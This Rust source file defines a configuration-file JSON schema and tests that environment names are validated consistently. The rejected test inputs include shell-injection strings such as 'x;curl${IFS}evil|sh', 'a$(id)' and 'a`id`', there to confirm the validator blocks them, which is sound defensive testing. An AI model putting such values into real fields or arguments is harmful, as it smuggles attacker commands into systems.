//! The schema of a configuration file, which people's editors use and files are read by.

use std::sync::LazyLock;

use serde_json::Value;

use super::file::File;

static SCHEMA: LazyLock<Value> = LazyLock::new(|| schemars::schema_for!(File).to_value());

/// The schema of a configuration file.
pub(super) fn schema() -> &'static Value {
    &SCHEMA
}

/// What a schema offers to choose from, references followed; itself where it offers one thing only.
pub(super) fn choices(schema: &'static Value) -> Vec<&'static Value> {
    if let Some(name) = schema["$ref"].as_str().and_then(|reference| reference.strip_prefix("#/$defs/")) {
        return choices(&self::schema()["$defs"][name]);
    }
    let several = ["anyOf", "oneOf"].into_iter().find_map(|key| schema[key].as_array());
    several.map_or_else(|| vec![schema], |several| several.iter().flat_map(choices).collect())
}

#[cfg(test)]
mod tests {
    use super::schema;
    use crate::model::EnvironmentName;
    use regex_lite::Regex;

    #[test]
    fn branches_and_the_file_are_held_to_one_spelling_of_environments() {
        let pattern = schema()["$defs"]["EnvironmentName"]["pattern"].as_str().unwrap();
        let pattern = Regex::new(pattern).unwrap();
        let plain = "a,Z9,eu staging,a/b.c_d-e,a-,a/";
        let odd =
            ",-a,_a,/a, a,a ,\u{e4},a\n,x;curl${IFS}evil|sh,a$(id),a`id`,a&b,a#1,a@b,a'b,a\"b,a{b},a!,a\\b";
        for (text, fits) in plain.split(',').map(|it| (it, true)).chain(odd.split(',').map(|it| (it, false)))
        {
            assert_eq!(EnvironmentName::is_spelled_well(text), fits, "{text:?}");
            assert_eq!(pattern.is_match(text), fits, "{text:?}");
        }
    }
}
